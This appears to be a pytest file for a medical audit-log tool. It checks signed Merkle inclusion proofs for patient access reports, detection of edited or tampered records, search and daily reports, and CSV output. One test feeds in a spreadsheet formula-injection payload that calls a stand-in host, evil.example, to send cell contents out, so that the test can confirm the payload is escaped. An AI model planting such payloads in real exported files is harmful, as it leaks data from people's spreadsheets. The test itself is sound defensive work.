"""The patient access report: RFC 9162 inclusion proofs that verify offline, and fail once the
store is tampered with or the saved report is edited."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import replace
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

from atna_corpus import every_event_id, record
from typer.testing import CliRunner

from pacsguard.atna.ingest import Sender, frame_event
from pacsguard.atna.message.build import to_xml
from pacsguard.atna.message.record import AuditRecord, Code
from pacsguard.atna.report import load_report, patient_report, prove, to_html
from pacsguard.cli import main
from pacsguard.events.model import Event
from pacsguard.store.keys import load_public_key, public_path
from pacsguard.store.merkle import inclusion_proof, leaf_hash, root_of, verify_inclusion
from pacsguard.store.proofs import _levels, _path
from store_helpers import make_events, new_store, raw_sql

SENDER = Sender("10.20.0.9", 40000, "tcp", "octet-counting")


def audit(event_id: str) -> bytes:
    return b"<85>1 - vna1 audit - IHE+RFC-3881 - " + every_event_id()[event_id]


def test_cached_paths_equal_the_recursive_definition() -> None:
    for n in (1, 2, 3, 7, 8, 9, 33):
        leaves = [leaf_hash(os.urandom(8)) for _ in range(n)]
        levels, root = _levels(leaves), root_of(leaves)
        for i in range(n):
            path = _path(i, n, levels, leaves)
            assert path == inclusion_proof(i, leaves)
            assert verify_inclusion(i, n, leaves[i], path, root)


def test_report_proves_offline_and_fails_after_tampering(tmp_path: Path) -> None:
    target = str(tmp_path / "store.db")
    store, key = new_store(target, tmp_path)
    store.append(make_events(40))
    store.append([frame_event(SENDER, audit(e)) for e in ("110110", "110104", "110112", "110103")])
    store.append(make_events(9, 40))
    store.checkpoint()
    store.append([frame_event(SENDER, audit("110106"))])  # after the checkpoint: listed, unproven
    public = load_public_key(public_path(key))

    report = patient_report(store, "PID-0042")
    by_cx = patient_report(store, "PID-0042^^^STMARY&1.2.840.99999.1&ISO")
    assert [r["seq"] for r in report["events"]] == [r["seq"] for r in by_cx["events"]] == [40, 41, 43, 53]
    assert report["unproven"] == [53]
    assert report["events"][0]["user"] == "jsmith" and report["events"][0]["purpose"] == "treatment"
    assert prove(report, public) == []
    saved = tmp_path / "report.html"
    saved.write_text(to_html(report))
    assert prove(load_report(saved.read_text()), public) == []
    ok = subprocess.run([sys.executable, "-m", "pacsguard.cli", "audit", "prove", str(saved), "--key",
                         str(public_path(key))], capture_output=True, text=True, timeout=60)
    assert ok.returncode == 0, ok.stderr

    edited = json.loads(json.dumps(report))
    edited["events"][1]["user"] = "someone-else"
    assert prove(edited, public) == ["event #41: listed fields differ from the sealed record: user"]
    forged = json.loads(json.dumps(report))
    forged["events"][0]["sealed"] = forged["events"][0]["sealed"].replace("jsmith", "mallory")
    forged["events"][0]["user"] = "mallory"
    assert prove(forged, public) == ["event #40: not included in the signed tree of 53 events"]

    # Someone with database rights rewrites who accessed the patient: a fresh report no longer proves.
    with raw_sql(target) as cur:
        cur.execute("UPDATE events SET body = replace(body, 'jsmith', 'mallory') WHERE seq = 41")
    fresh = patient_report(store, "PID-0042")
    assert fresh["events"][1]["user"] == "mallory"
    assert prove(fresh, public) == ["event #41: not included in the signed tree of 53 events"]
    store.close()
    (tmp_path / "fresh.json").write_text(json.dumps(fresh))
    bad = subprocess.run([sys.executable, "-m", "pacsguard.cli", "audit", "prove", str(tmp_path / "fresh.json"),
                          "--key", str(public_path(key))], capture_output=True, text=True, timeout=60)
    assert bad.returncode == 1 and "event #41" in bad.stdout


def test_an_edited_report_of_any_shape_fails_to_prove_and_never_raises(tmp_path: Path) -> None:
    """`audit prove` reads a file someone may have edited by hand: members of another JSON type, or
    dropped, at any depth (once, a string where a listed event belongs raised out of it) are each a
    reason the report does not hold, and a witness's check of it says what it cannot read."""
    import random

    from pacsguard.atna.corroborate import corroborate

    store, key = new_store(str(tmp_path / "store.db"), tmp_path)
    store.append(make_events(10))
    store.append([frame_event(SENDER, audit(e)) for e in ("110110", "110104", "110112")])
    store.checkpoint()
    public = load_public_key(public_path(key))
    report = patient_report(store, "PID-0042")
    store.close()
    assert prove(report, public) == []
    odd: list[object] = [None, 0, -1, 1.5, True, "", "x", "\u00b2", [], {}, [None], {"a": 1}]
    rnd = random.Random(20261204)
    failed = 0
    for _ in range(600):
        edited = json.loads(json.dumps(report))
        for container, k in rnd.sample(_members(edited), rnd.randint(1, 3)):
            if isinstance(container, dict) and rnd.random() < 0.2:
                container.pop(k, None)
            else:
                container[k] = rnd.choice(odd)
        problems = prove(edited, public)
        assert all(isinstance(p, str) and p for p in problems)
        failed += bool(problems)
        witnessed = corroborate(edited, [], public)
        assert witnessed.findings and all(isinstance(f, str) for _, f in witnessed.findings)
    assert failed > 500  # nearly every edit is caught; some only drop an optional member
    for top in ([], "report", 7, None):
        assert prove(top, public) == ["not a patient report (pacsguard-patient-report/v1)"]  # type: ignore[arg-type]


def _members(node: Any) -> list[tuple[Any, Any]]:
    """(container, key) of every member of a JSON document, at any depth."""
    items = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    return [place for k, child in items for place in [(node, k), *_members(child)]]


def _frame(record_: AuditRecord) -> Event:
    return frame_event(SENDER, b"<85>1 - vna1 audit - IHE+RFC-3881 - " + to_xml(record_))


def test_audit_search_and_the_daily_report(tmp_path: Path) -> None:
    night = datetime(2026, 12, 3, 2, 10, tzinfo=timezone.utc)
    failed_login = replace(record("110114"), outcome="4")
    glass = replace(record("110113"), event_types=(Code("110127", "DCM", "Emergency Override Started"),))
    urgent = replace(record("110110"), time=night, purposes=(Code("ETREAT", "v3-ActReason", "Emergency Treatment"),))
    target = str(tmp_path / "store.db")
    store, _ = new_store(target, tmp_path)
    store.append([_frame(r) for r in (record("110110"), record("110104"), failed_login, glass, urgent)])
    store.close()
    runner = CliRunner()
    out = runner.invoke(main.app, ["audit", "search", "--store", target, "--user", "JSM", "--event-id", "110110",
                                   "--format", "json"])
    assert out.exit_code == 0, out.output
    found = [json.loads(line) for line in out.output.splitlines()]
    assert [f["time"] for f in found] == ["2026-12-03T09:30:15Z", "2026-12-03T02:10:00Z"]  # in order of storage
    out = runner.invoke(main.app, ["audit", "search", "--store", target, "--patient", "PID-0042", "--action", "c",
                                   "--format", "json"])
    assert [json.loads(line)["details"]["event_id"]["code"] for line in out.output.splitlines()] == [
        "110110", "110104", "110110"]  # the corpus creates (C) both; the others name no patient

    out = runner.invoke(main.app, ["audit", "report", "--day", "2026-12-03", "--store", target, "--format", "json"])
    assert out.exit_code == 0, out.output
    daily = json.loads(out.output)
    assert daily["events"] == 5 and daily["top_users"] == [["jsmith", 5]]
    assert [e["kind"] for e in daily["failed_authentications"]] == ["atna.audit.user-authentication"]
    assert [e["kind"] for e in daily["security_alerts"]] == ["atna.audit.security-alert"]
    assert len(daily["break_glass"]) == 2 and len(daily["after_hours_access"]) == 1
    assert daily["per_hour"][2] == 1 and daily["per_hour"][9] == 4
    page = runner.invoke(main.app, ["audit", "report", "--day", "2026-12-03", "--store", target]).output
    assert page.startswith("<!DOCTYPE html>") and "<svg" in page and "Break-glass uses (2)" in page


def test_the_csv_report_never_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
    """A user name a compromised workstation wrote as a formula reaches the csv as text; the json
    report keeps it exactly."""
    from atna_corpus import _user

    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    hostile = record("110110")
    hostile = replace(hostile, participants=(_user(formula), *hostile.participants[1:]))
    target = str(tmp_path / "store.db")
    store, _ = new_store(target, tmp_path)
    store.append([_frame(hostile), _frame(replace(record("110110"), participants=(_user("-rm"),
                                                                                  *hostile.participants[1:])))])
    store.checkpoint()
    store.close()
    runner = CliRunner()
    as_csv = runner.invoke(main.app, ["audit", "patient", "PID-0042", "--store", target, "--format", "csv"])
    assert as_csv.exit_code == 0, as_csv.output
    cells = [c for line in csv_rows(as_csv.stdout) for c in line]
    assert "'" + formula in cells and "'-rm" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    as_json = runner.invoke(main.app, ["audit", "patient", "PID-0042", "--store", target, "--format", "json"])
    assert formula in {e["user"] for e in json.loads(as_json.stdout)["events"]}


def csv_rows(text: str) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(text)))
